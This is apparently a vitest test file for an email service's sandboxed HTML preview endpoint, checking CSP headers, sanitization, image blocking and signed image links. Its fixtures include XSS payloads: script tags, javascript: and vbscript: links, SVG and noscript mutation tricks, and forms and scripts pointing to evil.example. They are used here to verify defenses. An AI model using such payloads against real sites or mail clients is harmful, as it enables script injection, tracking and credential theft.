import { afterEach, beforeAll, describe, expect, it, vi } from "vitest";
import { setClock, signedInPerson } from "../auth/people.ts";
import { expectProblem, service } from "../harness.ts";
import { rarely } from "../sampled.ts";
import { contactingEmails } from "./contacts.ts";
import { base64, head, join, noise, part } from "./corpus/build.ts";
import { deliver } from "./deliver.ts";
import { storeMail } from "./new-mail.ts";

/* The document that the console shows an email in. test/browser opens one in Chromium. */

afterEach(() => void vi.useRealTimers());

const api = service();
const PICTURE = noise(3000, 5);
const HOSTILE = `<html><head><title>Hi</title><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css"><style>p { color: teal }</style></head>
<body onload="steal()" background="https://track.example/b.png">
<script>alert(1)</script><SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<p style="color: red">Hello <b onmouseover=alert(2)>you</b></p>
<form action="https://evil.example/"><input name="password"><p>inside the form</p></form>
<iframe src="https://evil.example/"></iframe><object data="x"></object><embed src="x">
<a id="good" href="https://example.com/page">page</a> <a id="bad" href="javascript:alert(3)">bad</a>
<a id="data" href=" data:text/html,<script>alert(4)</script>">data</a> <a id="mail" href="mailto:a@example.com">mail</a>
<img id="remote" src="https://track.example/pixel.gif?u=1" srcset="https://track.example/2x.gif 2x">
<img id="protocol" src="//track.example/p.gif"><img id="own" src="cid:logo@example.com"><img id="unknown" src="cid:none">
<img id="inline" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><svg onload=alert(5)></svg></body></html>`;

/** All that a document may be made of. */
const HARMLESS = new Set(
  "html body style a abbr area b br caption center col colgroup details div em font h1 i img ins p pre q span table tbody td tr u".split(
    " ",
  ),
);

/** What a style sheet loads something with. */
const LOADS = /\\[0-9a-z]|@import|@font-face|(?<![-\w])(?:url|src|image|(?:-webkit-)?image-set|cross-fade)\(/i;

async function documentOf(html: string): Promise<string> {
  const { body } = await api.post("/api/emails", { from: "eve@example.com", to: "me@example.com", subject: "x", html });
  const { status, text } = await api.get(`/api/emails/${body.id}/frame`);
  expect(status).toBe(200);
  return text;
}

let id: number;
const frame = (query = "") => `/api/emails/${id}/frame${query}`;

beforeAll(async () => {
  const raw = join(
    head("Frame", "Content-Type: multipart/related; boundary=b\n"),
    "\n",
    part("Content-Type: text/html; charset=utf-8", HOSTILE),
    part(
      "Content-Type: image/png\nContent-ID: <logo@example.com>\nContent-Disposition: inline\nContent-Transfer-Encoding: base64",
      base64(PICTURE),
    ),
    "--b--\n",
  );
  expect(await deliver(raw, { to: "frame@example.com" })).toBeNull();
  id = (await api.get("/api/emails?tag=frame")).body.data[0].id;
});

describe("GET /api/emails/{id}/frame", () => {
  it("is a sandboxed document that only pages of this origin can show", async () => {
    const { status, headers, text } = await api.get(frame());
    expect(status).toBe(200);
    expect(headers.get("content-type")).toBe("text/html; charset=utf-8");
    expect(headers.get("content-security-policy")).toBe(
      "sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none'; style-src 'unsafe-inline'; " +
        `img-src data: http://poa.test/api/emails/${id}/frame/; form-action 'none'; base-uri 'none'; frame-ancestors 'self'`,
    );
    expect(headers.get("x-frame-options")).toBe("SAMEORIGIN");
    expect(headers.get("x-dns-prefetch-control")).toBe("off");
    expect(headers.get("referrer-policy")).toBe("no-referrer");
    expect(headers.get("cache-control")).toBe("no-store");
    expect([...headers.keys()].filter((name) => name.startsWith("access-control"))).toEqual([]);
    expect(text).toMatch(/^<!doctype html>/);
    expect(text).toContain('<p style="color: red">Hello <b>you</b></p>');
    expect(text).toContain("p { color: teal }");
    expect(text).toContain("inside the form");
  });

  it("contains nothing that would run, submit, redirect or load from elsewhere", async () => {
    const { text } = await api.get(frame());
    expect(text).not.toMatch(/<(?:script|iframe|object|embed|form|base|link)\b/i);
    expect(text).not.toMatch(/\son\w+\s*=|javascript:|http-equiv|evil\.example|track\.example|alert\(/i);
    const tag = (name: string) => new RegExp(`<(?:a|img) id="${name}"[^>]*>`).exec(text)?.[0] ?? "";
    expect(tag("good")).toContain('href="https://example.com/page"');
    expect(tag("good")).toContain('target="_blank"');
    expect(tag("good")).toContain('rel="noopener noreferrer nofollow"');
    expect(tag("mail")).toContain('href="mailto:a@example.com"');
    expect(tag("bad")).not.toContain("href");
    expect(tag("data")).not.toContain("href");
    expect(tag("remote")).toBe('<img id="remote">');
    expect(tag("inline")).toContain("data:image/gif");
  });

  it.each([
    [
      "links of drawings",
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><a xlink:href="https://evil.example/">y</a></svg>',
    ],
    [
      "pictures of drawings",
      '<svg><image href="https://evil.example/a.png" /><use xlink:href="//evil.example/#a" /></svg>',
    ],
    [
      "animated links",
      '<svg><a><animate attributeName=href values="javascript:alert(1)" /><set attributeName="onload" to="alert(1)" /></a></svg>',
    ],
    ["formulas", '<math href="javascript:alert(1)"><mi xlink:href="data:text/html,alert(1)">x</mi></math>'],
    [
      "disguised links",
      '<a href="java\tscript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><area href="vbscript:alert(1)">',
    ],
    [
      "buttons of forms",
      '<form id="f"></form><button form="f" formaction="https://evil.example/">Pay</button><input type="image" src="https://evil.example/i.png">',
    ],
    [
      "broken markup",
      '<img src="x" onerror="alert(1)"<svg/onload=alert(1)><style><!--</style><script>alert(1)</script>--></style>',
    ],
    [
      "other namespaces",
      '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ],
  ])("makes %s harmless", async (_, html) => {
    const text = await documentOf(html);
    const shown = text.slice(text.indexOf("<body>")).replace(/ title="[^"<>]*"/g, "");
    expect(shown).not.toMatch(
      /<[^>]*\s(?:on\w+|(?:xlink:)?href|formaction|src|srcdoc)\s*=\s*["']?\s*(?:javascript|vbscript|data:text|java\s|&#|https?:|\/\/|alert)/i,
    );
    expect(text).not.toMatch(/<(?:script|iframe|form)\b/i);
  });

  it("has no element and no attribute in which a browser could find an address to contact", async () => {
    const at = "http://contact.example";
    const shown = await Promise.all(contactingEmails(at).map((html) => documentOf(html)));
    for (const text of shown) {
      const body = text.slice(text.indexOf("<body>") + 6);
      expect(body).not.toMatch(/<(?!\/?[a-z0-9]+[ >])/);
      for (const [tag, name = "", attributes = ""] of body.matchAll(/<([a-z0-9]+)([^>]*)>/g)) {
        expect(HARMLESS.has(name), tag).toBe(true);
        const others = attributes.replace(/ ([a-z-]+)="([^"<>]*)"/g, (_, attribute: string, value: string) => {
          if (attribute === "style") return LOADS.test(value) ? "!" : "";
          const mayName = attribute === "title" || (attribute === "href" && name === "a");
          return value.includes(at) && !mayName ? "!" : "";
        });
        expect(others, tag).toBe("");
      }
      for (const [sheet] of body.matchAll(/<style[^>]*>[\s\S]*?<\/style>/g)) {
        expect(sheet).not.toMatch(LOADS);
      }
    }
  });

  it("keeps what an email is made of: tables, fonts, styles, links, and text in places that browsers hide", async () => {
    const text = await documentOf(`<body bgcolor="#eee" style="margin:0"><noscript><p>Without scripts</p></noscript>
<style media="screen">@media (max-width: 600px) { .w { width: calc(100% - 2px) !important } } .q::before { content: "\\201C" }</style>
<table width="100%" cellpadding="0"><tr><td align="center" style="color: rgb(1, 2, 3)"><font face="Arial">Caf&eacute; &amp; 1 < 2</font></td></tr></table>
<a href="https://shop.example/?a=1&copy=2&amp;b=3" title='say "hi"'>shop</a><xmp><b>code</b></xmp><h1 id="top">T</h1><a href="#top">up</a>`);
    expect(text).toContain('<body bgcolor="#eee" style="margin:0"><p>Without scripts</p>');
    expect(text).toContain(
      '<style media="screen">@media (max-width: 600px) { .w { width: calc(100% - 2px) !important } } .q::before { content: "“" }</style>',
    );
    expect(text).toContain(
      '<td align="center" style="color: rgb(1, 2, 3)"><font face="Arial">Caf&eacute; &amp; 1 &lt; 2</font></td>',
    );
    expect(text).toContain('<a href="https://shop.example/?a=1&amp;copy=2&amp;b=3" target="_blank"');
    expect(text).toContain('title="say &quot;hi&quot;"');
    expect(text).toContain("&lt;b&gt;code&lt;/b&gt;");
    expect(text).toContain('<h1 id="top">T</h1><a href="#top">up</a>');
  });

  rarely("reads the largest email of odd markup in one pass", async () => {
    const odd = ["<a ", '<p a="', "<!--", "<style>url(   ", "url(", "aaaaaaaaaa", "<style>/*", "</", "&#", "<b \n\n\n"];
    for (const each of odd) {
      const text = await documentOf(
        `<style>${each.repeat(400_000 / each.length)}</style>${each.repeat(100_000 / each.length)}`,
      );
      expect(text).toContain("<style>");
    }
  });

  it("shows an email that is nested deeper than any browser reads", async () => {
    const html = `${"<div>".repeat(20_000)}deep inside${"</div>".repeat(20_000)}`;
    const { status, body } = await api.post("/api/emails", {
      from: "e@example.com",
      to: "me@example.com",
      subject: "x",
      html,
    });
    expect(status).toBe(201);
    expect((await api.get(`/api/emails/${body.id}`)).body.body).toBe("deep inside");
    expect((await api.get(`/api/emails/${body.id}/frame`)).text).toContain("deep inside");
  });

  it("loads the sender's pictures only when asked to", async () => {
    const { headers, text } = await api.get(frame("?images=all"));
    expect(text).toContain("https://track.example/pixel.gif?u=1");
    expect(headers.get("content-security-policy")).toMatch(/img-src data: \S+ https: http:;/);
    expect(text).not.toMatch(/<script/i);
    expectProblem(await api.get(frame("?images=some")), 422, "validation_failed");
  });

  it("leaves out what a reply quotes when asked to", async () => {
    const hidden = /<style>\s*blockquote, [^{}]+\{ display: none !important; \}\s*<\/style>/;
    expect((await api.get(frame())).text).not.toMatch(hidden);
    expect((await api.get(frame("?quotes=shown"))).text).not.toMatch(hidden);
    expect((await api.get(frame("?quotes=folded"))).text).toMatch(hidden);
    expectProblem(await api.get(frame("?quotes=none")), 422, "validation_failed");
  });

  it("shows the text of an email without HTML", async () => {
    const mail = await storeMail(api, "plain", { body: "First line\n<b>not bold</b> & <script>alert(1)</script>" });
    const { text } = await api.get(`/api/emails/${mail.id}/frame`);
    expect(text).toContain(
      "<pre>First line\n&lt;b&gt;not bold&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt;</pre>",
    );
    expectProblem(await api.get("/api/emails/999999999/frame"), 404, "not_found");
  });

  it("takes the cookie of the console's session, from a page of this origin", async () => {
    const closed = service({ ACCESS_MODE: "private" });
    const person = await signedInPerson();
    const cookie = `__Host-Http-poa=${person.refreshToken}`;
    const withHeaders = (headers: Record<string, string>) => closed.get(frame(), { headers });
    expectProblem(await closed.get(frame()), 401, "unauthenticated");
    expect((await closed.get(frame(), { token: person.token })).status).toBe(200);
    expect((await withHeaders({ cookie, "sec-fetch-site": "same-origin" })).status).toBe(200);
    expectProblem(await withHeaders({ cookie, "sec-fetch-site": "cross-site" }), 401, "unauthenticated");
    expectProblem(await withHeaders({ cookie }), 401, "unauthenticated");
    expectProblem(
      await withHeaders({ cookie: "__Host-Http-poa=a.0.b", "sec-fetch-site": "same-origin" }),
      401,
      "unauthenticated",
    );
    await service().post("/api/auth/logout", undefined, { token: person.token });
    expectProblem(await withHeaders({ cookie, "sec-fetch-site": "same-origin" }), 401, "session_revoked");
  });

  it("takes the cookie until it was replaced twice", async () => {
    const closed = service({ ACCESS_MODE: "private" });
    const person = await signedInPerson();
    const open = (refreshToken: string) =>
      closed.get(frame(), {
        headers: { cookie: `__Host-Http-poa=${refreshToken}`, "sec-fetch-site": "same-origin" },
      });
    let { refreshToken } = person;
    for (const expected of [200, 200, 401]) {
      expect((await open(person.refreshToken)).status).toBe(expected);
      refreshToken = (await service().post("/api/auth/refresh", { refreshToken })).body.refreshToken;
    }
  });
});

describe("GET /api/emails/{id}/frame/{n}", () => {
  const addressOf = async () => {
    const { text } = await service().get(frame());
    return /<img id="own" src="http:\/\/poa\.test([^"]+)"/.exec(text)?.[1]?.replaceAll("&amp;", "&") ?? "";
  };

  it("returns a picture of the email to whoever has its signed address", async () => {
    const closed = service({ ACCESS_MODE: "private" });
    const { status, headers, bytes } = await closed.get(await addressOf());
    expect(status).toBe(200);
    expect(headers.get("content-type")).toBe("image/png");
    expect(headers.get("content-disposition")).toMatch(/^inline/);
    expect(bytes).toEqual(PICTURE);
  });

  it("is signed for one picture and one hour", async () => {
    const closed = service({ ACCESS_MODE: "private" });
    const address = await addressOf();
    expectProblem(await closed.get(address.replace(/\/1\?/, "/2?")), 401, "unauthenticated");
    expectProblem(await closed.get(address.replace(/emails\/\d+/, `emails/${id + 1}`)), 401, "unauthenticated");
    expectProblem(await closed.get(address.replace(/expires=\d/, "expires=9")), 401, "unauthenticated");
    expectProblem(await closed.get(address.replace(/signature=.*/, "signature=AAAA")), 401, "unauthenticated");
    expectProblem(await closed.get(address.replace(/&.*/, "")), 422, "validation_failed");
    setClock(Date.now() + 61 * 60 * 1000);
    expectProblem(await closed.get(address), 401, "unauthenticated");
  });
});
